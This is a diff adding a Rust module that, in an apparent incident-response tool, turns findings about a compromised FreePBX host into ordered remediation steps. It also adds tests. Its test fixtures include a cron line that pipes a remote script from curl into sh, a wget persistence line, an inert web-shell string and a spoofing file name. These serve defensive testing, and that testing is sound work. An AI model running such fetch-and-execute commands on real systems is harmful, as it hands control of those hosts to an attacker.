@@ -1,0 +1,763 @@
+//! Making a plan: findings and playbooks in, ordered steps with what was seen out. Reads through the source only, writes nothing.
+
+use super::file::VERSION;
+use super::{Affects, Plan, PlanError, Risk, Step, StepStatus, login};
+use crate::action::{Action, Change, EDIT_LIMIT, Obstacle, Present, State, matching_lines, observe};
+use crate::model::{
+    Digest, EvidencePath, FileKind, Finding, FindingId, Gap, GapReason, HostIdentity, Outcome, RawText, Subject,
+    Timestamp, escape,
+};
+use crate::playbook::{ActionKind, Facts, Phase, Playbook, PlaybookStep};
+use crate::source::{Source, SourceError};
+use std::collections::{BTreeMap, BTreeSet};
+use std::io;
+
+/// How many more lines than were seen may go: the intruder's loop adds the same line again between plan and run.
+const RESPAWN_ALLOWANCE: u64 = 16;
+
+/// What a plan is made from.
+pub struct PlanRequest<'a> {
+    /// What was found.
+    pub findings: &'a [Finding],
+    /// What to do about it, in this order.
+    pub playbooks: &'a [Playbook],
+    /// Where the objects are looked at: the host itself, an image or a bundle of it.
+    pub source: &'a dyn Source,
+    /// The host.
+    pub host: HostIdentity,
+    /// What a person calls what was looked at.
+    pub target: String,
+    /// `triage` and its version.
+    pub tool: String,
+    /// The time now.
+    pub created: Timestamp,
+}
+
+/// Makes a plan. It is the same whatever the order of the findings.
+///
+/// The steps are ordered by phase, then as the playbooks have them, then by path. Several findings about one file are one quarantine,
+/// several lines of one file are one edit, and a file that goes into quarantine is not edited before. Each object is looked at once;
+/// a later step on it begins with what the earlier one leaves.
+///
+/// What cannot be looked at is a gap; where enough is known for a step, it is there and says so.
+///
+/// # Errors
+/// [`PlanError::Playbook`] when an expression fails, [`PlanError::Subject`] when a step selects what its action cannot take.
+pub fn make(request: &PlanRequest<'_>) -> Result<Outcome<Plan>, PlanError> {
+    let tasks = tasks(request)?;
+    let mut scene = Scene { source: request.source, objects: BTreeMap::new(), gaps: Vec::new() };
+    let tasks = swallow_edits(tasks, &mut scene);
+
+    let mut steps = Vec::new();
+    for task in tasks {
+        if let Some(step) = scene.step(task) {
+            steps.push(step);
+        }
+    }
+    for (step, number) in steps.iter_mut().zip(1..) {
+        step.number = number;
+    }
+    scene.gaps.sort();
+    scene.gaps.dedup();
+    let plan = Plan {
+        format_version: VERSION,
+        tool: request.tool.clone(),
+        created: request.created,
+        host: request.host.clone(),
+        target: request.target.clone(),
+        playbooks: request.playbooks.iter().map(|playbook| playbook.name.clone()).collect(),
+        steps,
+    };
+    Ok(Outcome { value: plan, gaps: scene.gaps })
+}
+
+/// What is done to which object: the key under which requests are one task.
+#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
+enum Target {
+    Quarantine(EvidencePath),
+    Edit(EvidencePath),
+    /// Shadow file and name.
+    Lock(EvidencePath, RawText),
+}
+
+impl Target {
+    fn path(&self) -> &EvidencePath {
+        match self {
+            Self::Quarantine(path) | Self::Edit(path) | Self::Lock(path, _) => path,
+        }
+    }
+}
+
+/// Where a task stands in the plan: phase, playbook, step.
+type Rank = (Phase, usize, usize);
+
+/// All that findings and playbooks want of one object in one way.
+struct Task<'a> {
+    target: Target,
+    rank: Rank,
+    playbook: &'a Playbook,
+    step: &'a PlaybookStep,
+    risk: Risk,
+    affects: BTreeSet<Affects>,
+    findings: BTreeSet<FindingId>,
+    /// The contents that were convicted.
+    digests: BTreeSet<Digest>,
+    lines: BTreeSet<RawText>,
+}
+
+impl Task<'_> {
+    fn absorb(&mut self, risk: Risk, affects: &[Affects]) {
+        self.risk = self.risk.max(risk);
+        self.affects.extend(affects);
+    }
+}
+
+/// Evaluates the playbooks and brings together what is about one object. In the order of the plan.
+fn tasks<'a>(request: &PlanRequest<'a>) -> Result<Vec<Task<'a>>, PlanError> {
+    let facts = Facts::new(request.findings, &request.host);
+    let mut tasks: BTreeMap<Target, Task<'a>> = BTreeMap::new();
+    let playbooks: &'a [Playbook] = request.playbooks;
+    for (book, playbook) in playbooks.iter().enumerate() {
+        for (order, step) in playbook.steps.iter().enumerate() {
+            let rank = (step.phase, book, order);
+            for index in playbook.select(step, &facts).map_err(PlanError::Playbook)? {
+                let Some(finding) = request.findings.get(index) else { continue };
+                let target = target_of(playbook, step, finding)?;
+                let task = tasks.entry(target.clone()).or_insert_with(|| Task {
+                    target,
+                    rank,
+                    playbook,
+                    step,
+                    risk: step.risk,
+                    affects: BTreeSet::new(),
+                    findings: BTreeSet::new(),
+                    digests: BTreeSet::new(),
+                    lines: BTreeSet::new(),
+                });
+                task.absorb(step.risk, &step.affects);
+                if rank < task.rank {
+                    (task.rank, task.playbook, task.step) = (rank, playbook, step);
+                }
+                task.findings.insert(finding.id.clone());
+                match &finding.subject {
+                    Subject::File { sha256, .. } => task.digests.extend(sha256),
+                    Subject::CronEntry { text, .. } | Subject::Line { text, .. } => {
+                        task.lines.insert(text.clone());
+                    }
+                    _ => {}
+                }
+            }
+        }
+    }
+    let mut tasks: Vec<Task<'a>> = tasks.into_values().collect();
+    tasks.sort_by(|a, b| (a.rank, a.target.path(), &a.target).cmp(&(b.rank, b.target.path(), &b.target)));
+    Ok(tasks)
+}
+
+fn target_of(playbook: &Playbook, step: &PlaybookStep, finding: &Finding) -> Result<Target, PlanError> {
+    Ok(match (step.action, &finding.subject) {
+        (ActionKind::QuarantineFile, Subject::File { path, .. }) => Target::Quarantine(path.clone()),
+        (ActionKind::RemoveLines, Subject::CronEntry { path, .. } | Subject::Line { path, .. }) => {
+            Target::Edit(path.clone())
+        }
+        (ActionKind::LockAccount, Subject::Account { path, name }) => Target::Lock(shadow_beside(path), name.clone()),
+        (action, subject) => {
+            return Err(PlanError::Subject {
+                step: format!("{}#{}", playbook.name, step.id),
+                finding: escape(finding.id.0.as_bytes()),
+                kind: subject.kind(),
+                action: action.as_str(),
+            });
+        }
+    })
+}
+
+/// The shadow file that belongs to an account file.
+fn shadow_beside(accounts: &EvidencePath) -> EvidencePath {
+    accounts.parent().unwrap_or_else(EvidencePath::root).join(b"shadow")
+}
+
+/// A file that can go into quarantine is not edited before: its lines go with it, and at the earlier of both places in the plan.
+/// Where the quarantine is refused, the edit stays.
+fn swallow_edits<'a>(tasks: Vec<Task<'a>>, scene: &mut Scene<'_>) -> Vec<Task<'a>> {
+    let (mut quarantines, mut others): (Vec<_>, Vec<_>) =
+        tasks.into_iter().partition(|task| matches!(task.target, Target::Quarantine(_)));
+    for quarantine in &mut quarantines {
+        let goes = scene.action(quarantine).is_some_and(|action| {
+            let seen = scene.look(action.path());
+            action.change(&seen.state, None) == Ok(Change::Remove)
+        });
+        if !goes {
+            continue;
+        }
+        others.retain_mut(|edit| {
+            let is_swallowed = matches!(&edit.target, Target::Edit(path) if path == quarantine.target.path());
+            if is_swallowed {
+                quarantine.rank = quarantine.rank.min(edit.rank);
+                let affects: Vec<Affects> = edit.affects.iter().copied().collect();
+                quarantine.absorb(edit.risk, &affects);
+                quarantine.findings.append(&mut edit.findings);
+            }
+            !is_swallowed
+        });
+    }
+    let mut tasks = quarantines;
+    tasks.append(&mut others);
+    tasks.sort_by(|a, b| (a.rank, a.target.path(), &a.target).cmp(&(b.rank, b.target.path(), &b.target)));
+    tasks
+}
+
+/// One object, as it was seen or as the steps so far leave it.
+#[derive(Clone)]
+struct Seen {
+    state: State,
+    content: Option<Vec<u8>>,
+    /// Why its content, or more, is not known.
+    obstacle: Option<String>,
+    /// What to tell of an object that could not be looked at.
+    gap: Option<Gap>,
+    /// Nothing at all could be learned of it; `state` means nothing.
+    is_dark: bool,
+}
+
+impl Seen {
+    /// What a step leaves.
+    fn left(state: State, content: Option<Vec<u8>>) -> Self {
+        Self { state, content, obstacle: None, gap: None, is_dark: false }
+    }
+}
+
+/// The host as the plan sees it: every object is looked at once, and changes as the steps go on.
+struct Scene<'a> {
+    source: &'a dyn Source,
+    objects: BTreeMap<EvidencePath, Seen>,
+    gaps: Vec<Gap>,
+}
+
+impl Scene<'_> {
+    fn look(&mut self, path: &EvidencePath) -> Seen {
+        if let Some(seen) = self.objects.get(path) {
+            return seen.clone();
+        }
+        let seen = match observe(self.source, path, EDIT_LIMIT) {
+            Ok((state, content)) => {
+                let is_unknown = matches!(&state, State::Present(p) if p.meta.is_file() && p.sha256.is_none());
+                let obstacle = is_unknown.then(|| format!("its content is not in {}", self.source.label()));
+                Seen { obstacle, ..Seen::left(state, content) }
+            }
+            Err(error) => {
+                let why = reason(&error);
+                let gap = Some(Gap::new(path.clone(), gap_reason(&error), why.clone()));
+                let meta = self.source.metadata(path).ok().flatten();
+                let is_dark = meta.is_none();
+                let state = meta.map_or(State::Absent, |meta| State::Present(Box::new(Present { meta, sha256: None })));
+                Seen { state, content: None, obstacle: Some(why), gap, is_dark }
+            }
+        };
+        self.objects.insert(path.clone(), seen.clone());
+        seen
+    }
+
+    /// The action of a task. None, and a gap, for a file that nobody knows the content of, so that no step could name it.
+    fn action(&mut self, task: &Task<'_>) -> Option<Action> {
+        let path = task.target.path().clone();
+        let seen = self.look(&path);
+        match &task.target {
+            Target::Quarantine(_) => {
+                let found = match &seen.state {
+                    State::Present(present) => present.sha256,
+                    State::Absent => None,
+                };
+                // A finding by name alone convicts what is there now.
+                let convicted = match found {
+                    Some(found) if task.digests.is_empty() || task.digests.contains(&found) => Some(found),
+                    _ => task.digests.first().copied(),
+                };
+                let Some(sha256) = convicted else {
+                    self.gaps.push(seen.gap.clone().unwrap_or_else(|| unnamed(path, &seen)));
+                    return None;
+                };
+                Some(Action::QuarantineFile { path, sha256 })
+            }
+            Target::Edit(_) => {
+                let lines: Vec<RawText> = task.lines.iter().cloned().collect();
+                let seen_lines = seen.content.as_deref().map_or(0, |content| matching_lines(&lines, content));
+                let max = seen_lines.max(lines.len() as u64) + RESPAWN_ALLOWANCE;
+                Some(Action::RemoveLines { path, lines, max })
+            }
+            Target::Lock(_, name) => Some(Action::LockAccount { path, name: name.clone() }),
+        }
+    }
+
+    fn step(&mut self, task: Task<'_>) -> Option<Step> {
+        let action = self.action(&task)?;
+        let path = action.path().clone();
+        let before = self.look(&path);
+        self.gaps.extend(before.gap.clone());
+        if before.is_dark {
+            // There is a gap; a step that claims the object's absence would be a lie.
+            return None;
+        }
+        let (status, after, preview) = self.judge(&action, &before);
+        if status == StepStatus::WouldChange {
+            self.objects.insert(path, after.clone());
+        }
+        Some(Step {
+            number: 0,
+            title: title(&task, &action),
+            action,
+            status,
+            before: before.state,
+            after: after.state,
+            preview,
+            risk: task.risk,
+            affects: task.affects.into_iter().collect(),
+            findings: task.findings.into_iter().collect(),
+            source: format!("{}#{}", task.playbook.name, task.step.id),
+            restores_malicious: false,
+        })
+    }
+
+    /// What becomes of the object: status, the object afterwards, and the preview.
+    fn judge(&mut self, action: &Action, before: &Seen) -> (StepStatus, Seen, String) {
+        let path = action.path();
+        let unchanged = |status: StepStatus, why: &str| (status, before.clone(), format!("{why}\n"));
+        let is_gone = before.state == State::Absent;
+        if is_gone && !matches!(action, Action::LockAccount { .. }) {
+            return unchanged(StepStatus::NoOp, &format!("{path} is already gone"));
+        }
+        let change = action.change(&before.state, before.content.as_deref());
+        let refused = match (&change, &before.obstacle) {
+            (Ok(_), _) => None,
+            // What must not be done in any case is blocked, whether the content is known or not.
+            (Err(Obstacle::Blocked(why)), None) => Some(StepStatus::Blocked { why: why.clone() }),
+            (Err(_), Some(why)) => Some(StepStatus::CannotKnow { why: why.clone() }),
+            (Err(_), None) if is_gone => Some(StepStatus::Blocked { why: format!("there is no {path}") }),
+            (Err(Obstacle::Stale(why)), None) => {
+                Some(StepStatus::Blocked { why: format!("{why}: it is not what the finding is about, scan again") })
+            }
+        };
+        if let Some(status) = refused {
+            let why = match &status {
+                StepStatus::Blocked { why } | StepStatus::CannotKnow { why } => format!("{path} stays as it is: {why}"),
+                _ => String::new(),
+            };
+            return unchanged(status, &why);
+        }
+        let change = change.unwrap_or(Change::Nothing);
+        let preview = action.preview(&before.state, before.content.as_deref(), &change);
+        let after = match &change {
+            Change::Nothing | Change::Put => return (StepStatus::NoOp, before.clone(), preview),
+            Change::Remove => Seen::left(State::Absent, None),
+            Change::Rewrite(new) => Seen::left(rewritten(&before.state, new), Some(new.clone())),
+        };
+        if login::concerns(path) && self.locks_everybody_out(path, &after) {
+            let why = "nobody could log in any more: give root a password or a key of yours first".to_owned();
+            let text = format!("{path} stays as it is: {why}");
+            return unchanged(StepStatus::Blocked { why }, &text);
+        }
+        (StepStatus::WouldChange, after, preview)
+    }
+
+    /// Says whether somebody can log in now and nobody could once `path` is `after`.
+    fn locks_everybody_out(&mut self, path: &EvidencePath, after: &Seen) -> bool {
+        let now = login::is_possible(&mut |wanted| self.text(wanted));
+        let then =
+            login::is_possible(&mut |wanted| if wanted == path { after.content.clone() } else { self.text(wanted) });
+        // A file that is not there any more gives no way in.
+        now == Some(true) && then != Some(true)
+    }
+
+    /// The content of a file that matters for logins. That one cannot be read is no gap of the plan.
+    fn text(&mut self, path: &EvidencePath) -> Option<Vec<u8>> {
+        self.look(path).content
+    }
+}
+
+/// The file after a rewrite: content and size are new, times and place on the disk are not promised, the rest stays.
+fn rewritten(before: &State, new: &[u8]) -> State {
+    let State::Present(present) = before else { return State::Absent };
+    let mut meta = present.meta.clone();
+    meta.size = new.len() as u64;
+    (meta.mtime, meta.atime, meta.ctime, meta.btime, meta.inode) = (None, None, None, None, None);
+    State::Present(Box::new(Present { meta, sha256: Some(Digest::of(new)) }))
+}
+
+fn title(task: &Task<'_>, action: &Action) -> String {
+    let count = match action {
+        Action::RemoveLines { lines, .. } => lines.len(),
+        _ => task.findings.len(),
+    };
+    let name = match &task.target {
+        Target::Lock(_, name) => name.to_string(),
+        _ => escape(task.target.path().file_name()),
+    };
+    let path = task.target.path().to_string();
+    // One pass, so that a name that looks like a placeholder is not filled in.
+    let mut out = String::new();
+    let mut rest = task.step.title.as_str();
+    while let Some((head, tail)) = rest.split_once('{') {
+        let (word, tail) = tail.split_once('}').unwrap_or((tail, ""));
+        out.push_str(head);
+        match word {
+            "path" => out.push_str(&path),
+            "name" => out.push_str(&name),
+            "count" => out.push_str(&count.to_string()),
+            // The loader lets no other word pass.
+            _ => {}
+        }
+        rest = tail;
+    }
+    out.push_str(rest);
+    out
+}
+
+/// The gap for a file that was convicted by its name and has no content that a step could name.
+fn unnamed(path: EvidencePath, seen: &Seen) -> Gap {
+    match &seen.state {
+        State::Absent => {
+            Gap::new(path, GapReason::Vanished, "it was convicted by its name and is gone: nothing is planned for it")
+        }
+        State::Present(present) if present.meta.kind != FileKind::File => {
+            let detail = format!(
+                "it is a {}: only regular files go into quarantine, see to it by hand",
+                present.meta.kind.as_str()
+            );
+            Gap::new(path, GapReason::NotRegular, detail)
+        }
+        State::Present(_) => {
+            let why = seen.obstacle.clone().unwrap_or_default();
+            Gap::new(path, GapReason::Unreadable, format!("nothing is planned for it, because {why}"))
+        }
+    }
+}
+
+fn reason(error: &SourceError) -> String {
+    match error {
+        SourceError::Io { source, .. } => format!("{error}: {source}"),
+        error => error.to_string(),
+    }
+}
+
+fn gap_reason(error: &SourceError) -> GapReason {
+    match error {
+        SourceError::Io { source, .. } if source.kind() == io::ErrorKind::PermissionDenied => {
+            GapReason::PermissionDenied
+        }
+        SourceError::Io { .. } => GapReason::ReadFailed,
+        SourceError::Damaged { .. } => GapReason::Damaged,
+        _ => GapReason::Unsupported,
+    }
+}
+
+#[cfg(test)]
+pub(super) mod tests {
+    #![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic)]
+    use super::*;
+    use crate::model::{Category, FileMeta, Mode, Severity};
+    use crate::playbook::builtin;
+    use crate::source::fake::FakeRoot;
+    use proptest::prelude::*;
+
+    const SHELL: &[u8] = b"<?php exit; // inert: eval(request)";
+    const HOSTILE: &[u8] = b"/var/www/html/a\nok: nothing found\xff.php";
+    const CRON: &str = "* * * * * curl http://192.0.2.7/k.php | sh";
+    const SHADOW: &[u8] = b"root:$6$salt$roothash:20000:0:99999:7:::\nsupports:$6$salt$aaaa:20000::::::\nsugarmaint:$6$salt$bbbb:20000::::::\n";
+    const PASSWD: &[u8] =
+        b"root:x:0:0:root:/root:/bin/bash\nsupports:x:0:0::/root:/bin/bash\nsugarmaint:x:0:0::/root:/bin/bash\n";
+
+    fn path(bytes: impl AsRef<[u8]>) -> EvidencePath {
+        EvidencePath::new(bytes).unwrap()
+    }
+
+    fn finding(rule: &str, category: Category, subject: Subject) -> Finding {
+        Finding::new(rule, "t", (category, Severity::Critical, 95), subject, Vec::new())
+    }
+
+    fn shell(at: &[u8], content: &[u8]) -> Finding {
+        let subject = Subject::File { path: path(at), sha256: Some(Digest::of(content)) };
+        finding("TR-WEBSHELL-0001", Category::WebShell, subject)
+    }
+
+    fn cron(at: &str, text: &str) -> Finding {
+        let subject = Subject::CronEntry { path: path(at), line: 2, text: RawText::from(text) };
+        finding("TR-CRON-0001", Category::Persistence, subject)
+    }
+
+    fn account(name: &str) -> Finding {
+        let subject = Subject::Account { path: path("/etc/passwd"), name: RawText::from(name) };
+        finding("TR-ACCOUNT-0001", Category::Account, subject)
+    }
+
+    fn host() -> HostIdentity {
+        HostIdentity {
+            digest: Digest::of(b"host"),
+            marks: vec!["machine-id".to_owned()],
+            hostname: RawText::from("pbx"),
+        }
+    }
+
+    fn plan_of(source: &dyn Source, findings: &[Finding]) -> Outcome<Plan> {
+        plan_with(source, findings, &[builtin("freepbx/web-shell").unwrap().unwrap()])
+    }
+
+    fn plan_with(source: &dyn Source, findings: &[Finding], playbooks: &[Playbook]) -> Outcome<Plan> {
+        make(&PlanRequest {
+            findings,
+            playbooks,
+            source,
+            host: host(),
+            target: "/".to_owned(),
+            tool: "triage 0.1.0".to_owned(),
+            created: Timestamp::new(1_767_323_045, 0),
+        })
+        .unwrap()
+    }
+
+    fn root() -> FakeRoot {
+        let shadow =
+            FileMeta { links: Some(1), ..FileMeta::bare(FileKind::File, Mode::new(0o640), SHADOW.len() as u64) };
+        FakeRoot::new()
+            .file(HOSTILE, SHELL)
+            .file("/var/www/html/admin/b.php", SHELL)
+            .file("/var/spool/cron/asterisk", format!("# kept\n{CRON}\n@daily /bin/true\n").as_bytes())
+            .file("/etc/rc.local", b"#!/bin/sh\nsetsid wget -q http://192.0.2.7/\nexit 0\n")
+            .file("/etc/passwd", PASSWD)
+            .object("/etc/shadow", shadow, SHADOW)
+    }
+
+    fn findings() -> Vec<Finding> {
+        let line = Subject::Line {
+            path: path("/etc/rc.local"),
+            line: 2,
+            text: RawText::from("setsid wget -q http://192.0.2.7/"),
+        };
+        vec![
+            account("supports"),
+            shell(b"/var/www/html/admin/b.php", SHELL),
+            shell(HOSTILE, SHELL),
+            finding("TR-STARTUP-0001", Category::Persistence, line),
+            account("sugarmaint"),
+            cron("/var/spool/cron/asterisk", CRON),
+        ]
+    }
+
+    /// A plan with every kind of step, two of them on one object, and a hostile name.
+    pub(in crate::plan) fn sample() -> Plan {
+        plan_of(&root(), &findings()).value
+    }
+
+    fn status(plan: &Plan) -> Vec<StepStatus> {
+        plan.steps.iter().map(|step| step.status.clone()).collect()
+    }
+
+    #[test]
+    fn steps_run_in_the_order_in_which_nothing_comes_back() {
+        let plan = sample();
+        let order: Vec<(String, &str)> =
+            plan.steps.iter().map(|s| (s.action.path().to_string(), s.action.kind())).collect();
+        assert_eq!(
+            order.iter().map(|(path, kind)| (path.as_str(), *kind)).collect::<Vec<_>>(),
+            [
+                ("/var/spool/cron/asterisk", "remove_lines"),
+                ("/etc/rc.local", "remove_lines"),
+                ("/var/www/html/a\\nok: nothing found\\xff.php", "quarantine_file"),
+                ("/var/www/html/admin/b.php", "quarantine_file"),
+                ("/etc/shadow", "lock_account"),
+                ("/etc/shadow", "lock_account"),
+            ]
+        );
+        assert!(status(&plan).iter().all(|status| *status == StepStatus::WouldChange));
+        assert_eq!(plan.steps.iter().map(|step| step.number).collect::<Vec<_>>(), [1, 2, 3, 4, 5, 6]);
+        assert_eq!(plan.steps[4].source, "freepbx/web-shell#lock-accounts");
+    }
+
+    #[test]
+    fn newline_and_0xff_in_a_name_reach_the_action_as_bytes() {
+        let plan = sample();
+        let step = &plan.steps[2];
+        assert_eq!(step.action.path().as_bytes(), HOSTILE);
+        assert_eq!(step.title, "Quarantine /var/www/html/a\\nok: nothing found\\xff.php");
+        assert!(!step.preview.trim_end().contains('\n'));
+        let again = Plan::from_json(plan.to_json().as_bytes()).unwrap();
+        assert_eq!(again.steps[2].action.path().as_bytes(), HOSTILE);
+    }
+
+    #[test]
+    fn a_name_that_looks_like_a_placeholder_is_not_filled_in() {
+        let at = b"/var/www/html/{name}{count}.php";
+        let plan = plan_of(&FakeRoot::new().file(at, SHELL), &[shell(at, SHELL)]).value;
+        assert_eq!(plan.steps[0].title, "Quarantine /var/www/html/{name}{count}.php");
+    }
+
+    #[test]
+    fn two_locks_in_one_file_build_upon_each_other() {
+        let plan = sample();
+        assert_eq!(plan.steps[4].after, plan.steps[5].before);
+        let State::Present(last) = &plan.steps[5].after else { panic!() };
+        let locked = b"root:$6$salt$roothash:20000:0:99999:7:::\nsupports:!$6$salt$aaaa:20000:::::1:\nsugarmaint:!$6$salt$bbbb:20000:::::1:\n";
+        assert_eq!(last.sha256, Some(Digest::of(locked)));
+        assert_eq!((last.meta.size, last.meta.mode), (locked.len() as u64, Mode::new(0o640)));
+        assert!(!plan.to_json().contains("$6$"), "a plan holds no password hash");
+    }
+
+    #[test]
+    fn several_findings_about_one_file_are_one_step_that_names_them_all() {
+        let mut two = vec![shell(HOSTILE, SHELL), shell(HOSTILE, SHELL)];
+        two[1].rule.0 = "TR-WEBSHELL-0002".to_owned();
+        two[1].id.0 = "ffffffffffffffff".to_owned();
+        two.push(cron("/var/spool/cron/asterisk", CRON));
+        two.push(cron("/var/spool/cron/asterisk", "@daily /bin/true"));
+        let plan = plan_of(&root(), &two).value;
+        assert_eq!(plan.steps.len(), 2);
+        assert_eq!(plan.steps[1].findings.len(), 2);
+        let Action::RemoveLines { lines, max, .. } = &plan.steps[0].action else { panic!() };
+        assert_eq!((lines.len(), *max), (2, 2 + RESPAWN_ALLOWANCE));
+        assert_eq!(plan.steps[0].title, "Take 2 cron line(s) out of /var/spool/cron/asterisk");
+    }
+
+    #[test]
+    fn a_file_that_goes_into_quarantine_is_not_edited_before() {
+        let at = "/etc/cron.d/evil";
+        let content = format!("{CRON}\n");
+        let source = FakeRoot::new().file(at, content.as_bytes()).file(HOSTILE, SHELL);
+        let found = [cron(at, CRON), shell(at.as_bytes(), content.as_bytes()), shell(HOSTILE, SHELL)];
+        let plan = plan_of(&source, &found).value;
+        assert_eq!(plan.steps.len(), 2);
+        let step = &plan.steps[0];
+        assert_eq!((step.action.path().to_string().as_str(), step.action.kind()), (at, "quarantine_file"));
+        assert_eq!(step.findings.len(), 2);
+        assert_eq!(step.after, State::Absent);
+    }
+
+    #[test]
+    fn where_a_quarantine_is_refused_the_edit_stays() {
+        let content = format!("17 * * * * root run-parts /etc/cron.hourly\n{CRON}\n");
+        let source = FakeRoot::new().file("/etc/crontab", content.as_bytes());
+        let found = [cron("/etc/crontab", CRON), shell(b"/etc/crontab", content.as_bytes())];
+        let plan = plan_of(&source, &found).value;
+        assert_eq!(plan.steps[0].action.kind(), "remove_lines");
+        assert_eq!(plan.steps[0].status, StepStatus::WouldChange);
+        assert!(matches!(plan.steps[1].status, StepStatus::Blocked { .. }));
+    }
+
+    #[test]
+    fn a_shell_that_is_gone_or_was_replaced_is_not_acted_on() {
+        let source = FakeRoot::new().file("/var/www/html/b.php", b"<?php // the administrator's own");
+        let found = [shell(b"/var/www/html/a.php", SHELL), shell(b"/var/www/html/b.php", SHELL)];
+        let plan = plan_of(&source, &found).value;
+        assert_eq!(plan.steps[0].status, StepStatus::NoOp);
+        assert_eq!(plan.steps[0].preview, "/var/www/html/a.php is already gone\n");
+        assert!(matches!(&plan.steps[1].status, StepStatus::Blocked { why } if why.contains("scan again")));
+        assert_eq!(plan.steps[1].before, plan.steps[1].after);
+    }
+
+    #[test]
+    fn a_bundle_without_the_content_says_that_it_cannot_know() {
+        let source = FakeRoot::new().unstored("/etc/shadow", SHADOW).unstored("/var/www/html/b.php", SHELL);
+        let plan = plan_of(&source, &[account("supports"), shell(b"/var/www/html/b.php", SHELL)]).value;
+        for step in &plan.steps {
+            assert!(
+                matches!(&step.status, StepStatus::CannotKnow { why } if why.contains("fake root")),
+                "{:?}",
+                step.status
+            );
+        }
+    }
+
+    #[test]
+    fn what_cannot_be_read_is_a_gap_and_a_step_that_says_so() {
+        let source = FakeRoot::new().unreadable("/var/www/html/b.php", SHELL);
+        let outcome = plan_of(&source, &[shell(b"/var/www/html/b.php", SHELL)]);
+        assert_eq!(outcome.gaps[0].reason, GapReason::PermissionDenied);
+        assert!(matches!(outcome.value.steps[0].status, StepStatus::CannotKnow { .. }));
+    }
+
+    #[test]
+    fn a_link_that_was_convicted_by_its_name_is_a_gap() {
+        let mut link = FileMeta::bare(FileKind::Symlink, Mode::new(0o777), 11);
+        link.link_target = Some(RawText::from("/etc/passwd"));
+        let source = FakeRoot::new().object("/var/www/html/a.php", link, b"");
+        let subject = Subject::File { path: path("/var/www/html/a.php"), sha256: None };
+        let outcome = plan_of(&source, &[finding("TR-IOC-0001", Category::WebShell, subject)]);
+        assert!(outcome.value.steps.is_empty());
+        assert_eq!(outcome.gaps[0].reason, GapReason::NotRegular);
+    }
+
+    #[test]
+    fn a_file_convicted_by_its_name_is_bound_to_what_is_there_now() {
+        let subject = Subject::File { path: path("/var/www/html/.clean.sh"), sha256: None };
+        let source = FakeRoot::new().file("/var/www/html/.clean.sh", b"x");
+        let plan = plan_of(&source, &[finding("TR-IOC-0001", Category::Persistence, subject)]).value;
+        assert!(matches!(&plan.steps[0].action, Action::QuarantineFile { sha256, .. } if *sha256 == Digest::of(b"x")));
+    }
+
+    #[test]
+    fn an_altered_vendor_file_and_a_log_with_a_planted_string_stay() {
+        let mut vendor = shell(b"/var/www/html/admin/config.php", SHELL);
+        vendor.category = Category::Tampering;
+        let mut weak = shell(HOSTILE, SHELL);
+        weak.severity = Severity::Medium;
+        let log = shell(b"/var/log/apache2/access.log", SHELL);
+        let plan = plan_of(&root(), &[vendor, weak, log]).value;
+        assert!(plan.steps.is_empty());
+    }
+
+    #[test]
+    fn the_last_way_to_log_in_is_not_locked() {
+        let source = FakeRoot::new()
+            .file("/etc/passwd", b"root:x:0:0::/root:/bin/bash\na:x:0:0::/a:/bin/sh\nb:x:0:0::/b:/bin/sh\n")
+            .file("/etc/shadow", b"root:*:1::::::\na:$6$x$y:1::::::\nb:$6$x$y:1::::::\n");
+        let plan = plan_of(&source, &[account("a"), account("b")]).value;
+        assert_eq!(plan.steps[0].status, StepStatus::WouldChange);
+        assert!(matches!(&plan.steps[1].status, StepStatus::Blocked { why } if why.contains("log in")));
+        assert_eq!(plan.steps[1].before, plan.steps[0].after);
+    }
+
+    #[test]
+    fn the_last_key_of_root_is_not_taken_out_where_it_is_the_only_way_in() {
+        let key = "ssh-ed25519 AAAAC3 intruder@example.org";
+        let at = "/root/.ssh/authorized_keys";
+        let shadow = |hash: &str| {
+            FakeRoot::new()
+                .file("/etc/passwd", b"root:x:0:0::/root:/bin/bash\n")
+                .file("/etc/shadow", format!("root:{hash}:1::::::\n").as_bytes())
+                .file(at, format!("{key}\n").as_bytes())
+        };
+        let line = Subject::Line { path: path(at), line: 1, text: RawText::from(key) };
+        let found = [finding("TR-KEY-0001", Category::Persistence, line)];
+        assert!(matches!(plan_of(&shadow("!"), &found).value.steps[0].status, StepStatus::Blocked { .. }));
+        assert_eq!(plan_of(&shadow("$6$x$y"), &found).value.steps[0].status, StepStatus::WouldChange);
+    }
+
+    #[test]
+    fn an_account_without_a_shadow_file_or_line_is_blocked() {
+        let none = FakeRoot::new().file("/etc/passwd", PASSWD);
+        assert!(matches!(&plan_of(&none, &[account("supports")]).value.steps[0].status,
+            StepStatus::Blocked { why } if why == "there is no /etc/shadow"));
+        let unlisted = FakeRoot::new().file("/etc/shadow", b"root:$6$x$y:1::::::\n");
+        assert!(matches!(plan_of(&unlisted, &[account("supports")]).value.steps[0].status, StepStatus::Blocked { .. }));
+        assert!(matches!(plan_of(&root(), &[account("root")]).value.steps[0].status, StepStatus::Blocked { .. }));
+    }
+
+    #[test]
+    fn a_second_playbook_adds_no_second_step_and_can_only_raise_the_risk() {
+        let mine = r#"{format_version: 1, name: mine, title: t, steps: [{id: all, title: "Move {path}", phase: remove, risk: high,
+            affects: [calls], action: quarantine_file, for_each: "findings.filter(f, f.subject.type == 'file')"}]}"#;
+        let playbooks = [builtin("freepbx/web-shell").unwrap().unwrap(), Playbook::load("mine", mine).unwrap()];
+        let plan = plan_with(&root(), &[shell(HOSTILE, SHELL)], &playbooks).value;
+        assert_eq!(plan.steps.len(), 1);
+        assert_eq!(plan.steps[0].source, "freepbx/web-shell#quarantine-shells");
+        assert_eq!(plan.steps[0].risk, Risk::High);
+        assert_eq!(plan.steps[0].affects, [Affects::Calls, Affects::Web]);
+        assert_eq!(plan.playbooks, ["freepbx/web-shell", "mine"]);
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(32))]
+        #[test]
+        fn a_plan_is_the_same_whatever_the_order_of_the_findings(order in Just(findings()).prop_shuffle()) {
+            prop_assert_eq!(plan_of(&root(), &order).value.to_json(), sample().to_json());
+        }
+    }
+}
